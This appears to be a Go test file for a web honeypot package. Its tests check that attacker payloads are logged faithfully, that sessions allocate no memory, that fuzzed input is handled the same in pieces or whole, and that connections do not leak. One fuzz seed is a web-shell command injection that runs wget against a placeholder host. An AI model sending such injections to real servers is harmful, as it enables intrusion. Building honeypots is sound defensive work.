package pots

import (
	"encoding/base64"
	"net"
	"strings"
	"testing"
)

// TestWebRealPayloads: whatever real attackers sent anywhere is told by each
// web pot, byte for byte when it is no HTTP and no TLS.
func TestWebRealPayloads(t *testing.T) {
	for _, line := range []string{"http listen=:1", "cwmp listen=:1", "upnp listen=:1", "https listen=:1"} {
		w := newWeb(t, line)
		for _, p := range payloads(t) {
			if strings.Trim(p, "\r\n") == "" {
				continue // no request, and no need to tell
			}
			heard, told := w.talk(p, 1<<20)
			if len(told) == 0 {
				t.Errorf("%s: nothing told of %q, answered %q", line, p, heard)
				continue
			}
			if told[0].typ == "session.data" && len(p) < MaxField {
				if got := fieldBytes(t, told[0].data, "payload"); got != p && got != strings.TrimLeft(p, "\r\n") {
					t.Errorf("%s: %q told as %q", line, p, got)
				}
			}
		}
	}
}

// TestWebNoAllocation: a session costs no memory but that of pools.
func TestWebNoAllocation(t *testing.T) {
	if raceDetector {
		t.Skip("the race detector's pools forget on purpose")
	}
	w := newWeb(t, formWeb)
	peer := &mute{chunk: 1 << 20}
	say := []byte(httpLoginRequest)
	c := &Conn{nc: peer, l: &listener{inst: w.i}, session: 1, idle: httpIdle}
	if n := testing.AllocsPerRun(200, func() {
		peer.say, peer.heard = say, peer.heard[:0]
		c.start, c.in = c.l.now(), 0
		c.ended.Store(0)
		w.i.handler.Serve(c)
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

// FuzzWeb: whatever comes, the session does the same in every cut.
func FuzzWeb(f *testing.F) {
	for _, s := range []string{
		"GET / HTTP/1.1\r\n\r\n", "POST /login.cgi HTTP/1.1\r\nContent-Length: 13\r\n\r\nuser=a&pass=bGET / HTTP/1.0\r\n\r\n",
		"POST /xmlrpc.php HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n<a\r\n0\r\n\r\n", "GET /shell?wget+http://a.b/c\r\n",
		"GET / HTTP/1.1\r\nAuthorization: Basic " + base64.StdEncoding.EncodeToString([]byte("a:b")) + "\r\n\r\n", "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03",
	} {
		f.Add([]byte(s), 3)
	}
	n := newNode(&testing.T{}, Config{})
	i := n.handlerOf(formWeb)
	f.Fuzz(func(t *testing.T, say []byte, piece int) {
		if piece < 1 || len(say) > 64<<10 {
			return
		}
		w := &web{n, i}
		n.t = t
		a, told := w.talk(string(say), min(piece, len(say)+1))
		b, again := w.talk(string(say), len(say)+1)
		if refusedEarly(told) || refusedEarly(again) {
			return // what is told of it is what had come by then
		}
		if x, y := undatedAll(a), undatedAll(b); x != y {
			t.Errorf("in pieces %q, at once %q", x, y)
		}
		if x, y := lines(told), lines(again); x != y {
			t.Errorf("in pieces %q, at once %q", x, y)
		}
	})
}

func refusedEarly(told []webEvent) bool {
	for _, e := range told {
		if e.typ == "session.data" || e.data["error"] != nil {
			return true
		}
	}
	return false
}

// undatedAll drops the interim answer too, which is not sent when the body is
// there already.
func undatedAll(s string) string {
	s = strings.ReplaceAll(s, "HTTP/1.1 100 Continue\r\n\r\n", "")
	for _, part := range strings.Split(s, "Date: ")[1:] {
		date, _, _ := strings.Cut(part, "\r\n")
		s = strings.Replace(s, date, "*", 1)
	}
	return s
}

// TestWebLeavesNothing: every payload of the corpus over a real connection;
// the node's clean-up checks that no goroutine and no descriptor stays.
func TestWebLeavesNothing(t *testing.T) {
	n := newNode(t, Config{}).run()
	n.pots("http listen=127.0.0.1:0", "https listen=127.0.0.1:0", "upnp listen=127.0.0.1:0")
	for _, id := range []string{"http", "https", "upnp"} {
		list := payloads(t)
		if testing.Short() {
			list = list[:100]
		}
		for _, p := range list {
			c := dial(t, n.addr(id))
			c.send(p)
			_ = c.Conn.(*net.TCPConn).CloseWrite() // it may be closed already
			c.rest()
			c.Close()
		}
		await(t, id+": no connection left", func() bool {
			info, _ := n.m.Info(id)
			return info.Counters.Open == 0 && info.Counters.Conns == uint64(len(list))
		})
	}
	if len(n.errs) > 0 {
		t.Error(<-n.errs)
	}
}
